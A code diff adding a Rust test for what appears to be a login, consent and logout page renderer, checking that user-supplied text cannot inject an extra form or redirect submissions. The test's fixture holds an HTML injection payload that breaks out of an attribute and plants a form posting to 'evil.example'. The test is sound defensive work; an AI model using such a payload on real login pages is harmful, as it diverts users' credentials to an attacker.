@@ -265,6 +265,59 @@ fn nothing_anybody_types_becomes_markup() {
     }
 }
 
+/// The one thing that `form-action` would hold where it is left out.
+#[test]
+fn nothing_on_a_page_adds_a_form_or_sends_one_elsewhere() {
+    let planted = "\"><form action=\"https://evil.example\"><input formaction=\"//evil.example";
+    let text = || planted.to_owned();
+    let fields = || vec![(text(), text())];
+    let password = Password {
+        connector_name: Some(text()),
+        client_name: text(),
+        username_label: Some(text()),
+        username: text(),
+        action: "/own".into(),
+        fields: fields(),
+        back: Some(text()),
+        reset: Some(text()),
+        ..Password::default()
+    };
+    let consent = Consent {
+        client_name: text(),
+        client_host: Some(text()),
+        user_display: text(),
+        scopes: vec![ScopeItem::named(planted)],
+        action: "/own".into(),
+        fields: fields(),
+    };
+    let logout = LogoutConfirm {
+        client_name: Some(text()),
+        user_display: Some(text()),
+        action: "/own".into(),
+        fields: fields(),
+        cancel: Some(text()),
+    };
+    let form_post = FormPost {
+        action: "/own".into(),
+        fields: fields(),
+        client_name: Some(text()),
+    };
+    let pages: [Page; 4] = [
+        password.into(),
+        consent.into(),
+        logout.into(),
+        form_post.into(),
+    ];
+    for page in pages {
+        let body = draw(&acme(), page.clone());
+        let name = page.template();
+        assert_eq!(body.matches("<form").count(), 1, "{name}: {body}");
+        assert_eq!(body.matches(" action=\"").count(), 1, "{name}: {body}");
+        assert!(body.contains(" action=\"/own\""), "{name}: {body}");
+        assert!(!body.contains(" formaction=\""), "{name}: {body}");
+    }
+}
+
 #[test]
 fn a_hostile_nonce_or_base_path_stays_in_its_attribute() {
     let ctx = RenderContext {
